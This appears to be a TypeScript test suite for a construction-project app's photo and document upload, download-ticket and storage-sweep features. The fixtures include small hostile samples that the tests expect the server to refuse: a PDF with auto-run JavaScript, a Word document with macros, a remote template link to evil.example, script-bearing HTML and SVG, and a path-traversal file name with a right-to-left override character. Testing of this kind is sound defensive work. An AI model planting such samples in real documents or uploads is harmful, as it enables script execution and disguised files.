import { createHash } from 'node:crypto'
import type { Photo, ProjectFile } from '@groundbreak/contract/areas/files'
import { strToU8, zipSync } from 'fflate'
import sharp from 'sharp'
import { beforeAll, describe, expect, it } from 'vitest'
import { type Carried, useApp } from '../../test/app'
import { sweepContents } from './jobs/sweep-contents'
import { makeUser } from '../../test/factories/accounts'
import { makeProject, places } from '../../test/factories/projects'

const test = useApp()
let project = 0
let outside = 0
let customer: Carried
let staff: Carried

const PDF_WITH = (entry: string) => Buffer.from(`%PDF-1.4\n1 0 obj\n<< /Type /Catalog ${entry} >>\nendobj\n`)
const TEMPLATE =
  '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
const documentWith = (parts: Record<string, string>, type = ''): Buffer => {
  const main = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
  const types = `<Types><Override PartName="/word/document.xml" ContentType="${main}"/>${type && `<Default ContentType="application/vnd.ms-office.${type}"/>`}</Types>`
  const all = { '[Content_Types].xml': types, 'word/document.xml': '<w:document/>', ...parts }
  return Buffer.from(
    zipSync(Object.fromEntries(Object.entries(all).map(([name, part]) => [name, strToU8(part)]))),
  )
}

const PDF = Buffer.from('%PDF-1.4\n1 0 obj\n<< >>\nendobj\n%%EOF\n')

beforeAll(async () => {
  const { pool } = test()
  project = await makeProject(pool)
  outside = await makeProject(pool, { provinceId: places.shanghai })
  customer = await test().signIn(
    (await makeUser(pool, { subscription: { provinceIds: [places.jiangsu] } })).id,
  )
  staff = await test().signIn((await makeUser(pool, { role: 'researcher' })).id)
})

const call = <T>(path: string, payload: object, as: Carried) =>
  test().call<T>(`/project/${path}`, payload, { as })

const get = (url: string, as: Carried | null) =>
  test().inject({ method: 'GET', url, headers: as ? { cookie: `sid=${as.secret}` } : {} })

async function picture(width = 1200, height = 900): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#8fbccb' } })
    .withExif({ IFD0: { Copyright: 'Somebody', ImageDescription: 'At home' } })
    .jpeg()
    .toBuffer()
}

const addPhoto = async (content: Buffer, more: object = {}) =>
  call<{ id: number; fields?: object }>(
    'add_photo',
    { projectid: project, content: content.toString('base64'), caption_zh: '塔吊', ...more },
    staff,
  )
const addFile = (content: Buffer, name: string, projectid = project) =>
  call<{ id: number }>('add_file', { projectid, name, content: content.toString('base64') }, staff)
const photosOf = async (projectid: number, as: Carried) =>
  call<{ list: Photo[]; can: { edit: boolean } }>('get_photos', { projectid }, as)
const filesOf = async (projectid: number, as: Carried) =>
  call<{ list: ProjectFile[] }>('get_files', { projectid }, as)
const countOf = async (id: number) =>
  (await test().pool.query<{ n: number }>('select photo_count as n from projects where id = $1', [id]))
    .rows[0]?.n

describe('photos', () => {
  it('are added by staff, counted, seen by customers as encoded anew, and removed', async () => {
    const added = await addPhoto(await picture(), { taken_on: '2026-03-02' })
    expect(added.code).toBe(10_000)
    expect(await countOf(project)).toBe(1)
    const { data } = await photosOf(project, customer)
    expect(data.can.edit).toBe(false)
    expect(data.list).toMatchObject([
      { id: added.data.id, caption: '塔吊', taken_on: '2026-03-02', width: 1200, is_sample: false },
    ])
    const [photo] = data.list
    const full = await get(photo?.url ?? '', customer)
    expect(full.statusCode).toBe(200)
    expect(full.headers).toMatchObject({
      'content-type': 'image/jpeg',
      'content-disposition': 'inline',
      'x-content-type-options': 'nosniff',
      'content-security-policy': expect.stringContaining("default-src 'none'"),
    })
    const inside = await sharp(full.rawPayload).metadata()
    expect([inside.format, inside.width, inside.exif]).toEqual(['jpeg', 1200, undefined])
    const small = await sharp((await get(photo?.thumbnail_url ?? '', customer)).rawPayload).metadata()
    expect([small.width, small.height]).toEqual([480, 360])
    expect((await call('remove_photo', { photo_id: added.data.id }, staff)).code).toBe(10_000)
    expect(await countOf(project)).toBe(0)
    expect((await photosOf(project, customer)).data.list).toEqual([])
    expect((await get(photo?.url ?? '', customer)).statusCode).toBe(404)
    expect((await call('remove_photo', { photo_id: added.data.id }, staff)).code).toBe(3200)
  })

  it('are pictures: anything else, a broken one and too many pixels are refused', async () => {
    expect((await addPhoto(PDF)).code).toBe(3202)
    expect(
      (await addPhoto(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'))).code,
    ).toBe(3202)
    expect((await addPhoto((await picture()).subarray(0, 400))).code).toBe(3202)
    const bomb = await sharp({ create: { width: 9000, height: 9000, channels: 3, background: '#fff' } })
      .png()
      .toBuffer()
    expect((await addPhoto(bomb)).code).toBe(3203)
    expect(
      (await call('add_photo', { projectid: project, content: 'not base64!' }, staff)).data,
    ).toMatchObject({
      fields: { content: '格式不正确' },
    })
    expect(await countOf(project)).toBe(0)
  })

  it('are counted right when many are removed at once', async () => {
    const { pool } = test()
    const crowded = await makeProject(pool)
    const { rows } = await pool.query<{ id: number }>(
      `with stored as (insert into stored_files (hash, mime, bytes) values ($2, 'image/png', 1) returning id)
insert into project_photos (project_id, file_id, thumbnail_id)
select $1, id, id from stored, generate_series(1, 40) returning id`,
      [crowded, createHash('sha256').update('crowded').digest()],
    )
    await Promise.all(rows.slice(1).map(({ id }) => call('remove_photo', { photo_id: id }, staff)))
    expect(await countOf(crowded)).toBe(1)
  })

  it('of one content share it', async () => {
    const same = await picture(640, 480)
    const one = await addPhoto(same)
    const other = await addPhoto(same)
    const { rows } = await test().pool.query(
      'select distinct file_id from project_photos where id = any($1)',
      [[one.data.id, other.data.id]],
    )
    expect(rows).toHaveLength(1)
  })
})

describe('documents', () => {
  it('are told by their content, not by their name, and come by a ticket of this session', async () => {
    const added = await addFile(PDF, '../总平面图\u202E.exe')
    expect(added.code).toBe(10_000)
    const { data } = await filesOf(project, customer)
    expect(data.list).toMatchObject([
      { id: added.data.id, name: '总平面图.pdf', mime: 'application/pdf', bytes: PDF.length, added_by: null },
    ])
    expect((await filesOf(project, staff)).data.list[0]?.added_by?.name).toContain('用户')
    const ticket = await call<{ url: string }>('download_file', { file_id: added.data.id }, customer)
    const got = await get(ticket.data.url, customer)
    expect(got.rawPayload.equals(PDF)).toBe(true)
    expect(got.headers).toMatchObject({
      'content-type': 'application/pdf',
      'content-length': String(PDF.length),
      'content-disposition': `attachment; filename="____.pdf"; filename*=UTF-8''${encodeURIComponent('总平面图')}.pdf`,
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    })
    const { rows } = await test().pool.query(
      `select file_name from project_looks where content = 'file' and project_id = $1`,
      [project],
    )
    expect(rows).toEqual([{ file_name: '总平面图.pdf' }])
    expect((await call('remove_file', { file_id: added.data.id }, staff)).code).toBe(10_000)
    expect((await get(ticket.data.url, customer)).statusCode).toBe(404)
  })

  it.each([
    ['runs a script', 3207, PDF_WITH('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')],
    ['holds another file', 3207, PDF_WITH('/Names << /EmbeddedFiles 2 0 R >>')],
    ['is encrypted', 3208, PDF_WITH('/Encrypt 2 0 R')],
    ['is a document with macros', 3207, documentWith({ 'word/vbaProject.bin': 'x' }, 'vbaProject')],
    [
      'is a document that fetches a template',
      3207,
      documentWith({ 'word/_rels/settings.xml.rels': TEMPLATE }),
    ],
  ])('refuse what %s, in both languages, and keep nothing of it', async (_, code, content) => {
    const sent = { projectid: project, name: 'plan.pdf', content: content.toString('base64') }
    const [zh, en] = [
      await call('add_file', sent, staff),
      await call('add_file', { ...sent, lang: 'en' }, staff),
    ]
    expect([zh.code, en.code]).toEqual([code, code])
    expect(zh.message).toMatch(/上传$/)
    expect(en.message).toMatch(/^The file /)
    const { rows } = await test().pool.query('select from stored_files where hash = sha256($1)', [content])
    expect(rows).toEqual([])
  })

  it('take a document without', async () => {
    expect((await addFile(documentWith({}), 'plan.docx')).code).toBe(10_000)
  })

  it.each([
    ['a page', '<!doctype html><script>alert(1)</script>'],
    ['a program', 'MZ\u0090\u0000'],
    ['a drawing with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'],
  ])('refuse %s', async (_, text) => {
    expect((await addFile(Buffer.from(text), 'plan.pdf')).code).toBe(3201)
  })

  it('need a project', async () => {
    expect((await addFile(PDF, 'plan.pdf', 2_000_000_000)).code).toBe(1300)
  })
})

describe('a ticket', () => {
  it('serves nobody else, no other session, and not after the right has gone', async () => {
    const { pool } = test()
    const { data } = await addFile(PDF, 'plan.pdf')
    const user = await makeUser(pool, { subscription: { provinceIds: [places.jiangsu] } })
    const as = await test().signIn(user.id)
    const again = await test().signIn(user.id)
    const { url } = (await call<{ url: string }>('download_file', { file_id: data.id }, as)).data
    expect((await get(url, as)).statusCode).toBe(200)
    const refusals = [
      await get(url, null),
      await get(url, customer),
      await get(url, again),
      await get(`${url.slice(0, -2)}AA`, as),
      await get(`${url}A`, as),
      await get('/download/nothing', as),
      await test().inject({
        method: 'GET',
        url,
        headers: { cookie: `sid=${as.secret}`, 'sec-fetch-site': 'cross-site' },
      }),
    ]
    expect(refusals.map(({ statusCode }) => statusCode)).toEqual(refusals.map(() => 404))
    expect(new Set(refusals.map(({ payload }) => payload)).size).toBe(1)
    await pool.query('update subscriptions set province_ids = $2 where customer_firm_id = $1', [
      user.firmId,
      [places.guangdong],
    ])
    await expect.poll(async () => (await get(url, as)).statusCode, { timeout: 3000 }).toBe(404)
  })

  it('is not given outside the subscription, nor in demo mode', async () => {
    const { data } = await addFile(PDF, 'plan.pdf', outside)
    expect((await call('download_file', { file_id: data.id }, customer)).code).toBe(3200)
    const away = await test().signIn((await makeUser(test().pool, { awayMode: true })).id)
    const { data: shown } = await addFile(PDF, 'plan.pdf')
    expect((await call('download_file', { file_id: shown.id }, away)).code).toBe(3200)
    expect((await filesOf(project, away)).data.list).toEqual([])
    expect((await photosOf(project, away)).data.list).toEqual([])
  })
})

describe('the store', () => {
  it('answers nothing for a content it does not have', async () => {
    expect(await test().files.read(createHash('sha256').update('nothing').digest())).toBeUndefined()
  })

  it('lets only staff send large bodies, and refuses before it reads them', async () => {
    const content = 'A'.repeat(3 * 1024 * 1024)
    const large = await call('add_file', { projectid: project, name: 'a.pdf', content }, customer)
    expect(large.status).toBe(405)
    const notice = await test().call('/project/get', { projectid: project, content }, { as: staff })
    expect(notice.code).toBe(1004)
  })
})

const hashOf = (content: Buffer) => createHash('sha256').update(content).digest()

describe('the nightly sweep', () => {
  it('removes contents that nothing has named for a day, and nothing else; the second run finds none', async () => {
    const { pool, files } = test()
    const [gone, kept, fresh] = ['gone', 'kept', 'fresh'].map((name) =>
      Buffer.concat([PDF, Buffer.from(`% ${name}\n`)]),
    ) as [Buffer, Buffer, Buffer]
    const added = await Promise.all([gone, kept, fresh].map((content) => addFile(content, 'a.pdf')))
    for (const at of [0, 2]) await call('remove_file', { file_id: added[at]?.data.id }, staff)
    await pool.query(
      `update stored_files set created_at = now() - interval '25 hours' where hash = any($1)`,
      [[hashOf(gone), hashOf(kept)]],
    )
    expect(await sweepContents(pool, files)).toBe(1)
    expect(await sweepContents(pool, files)).toBe(0)
    expect(await files.read(hashOf(gone))).toBeUndefined()
    for (const content of [kept, fresh]) {
      const stream = await files.read(hashOf(content))
      expect(stream).toBeDefined()
      stream?.destroy()
    }
    expect((await addFile(gone, 'again.pdf')).code).toBe(10_000)
    expect((await files.read(hashOf(gone)))?.destroy()).toBeDefined()
  })
})
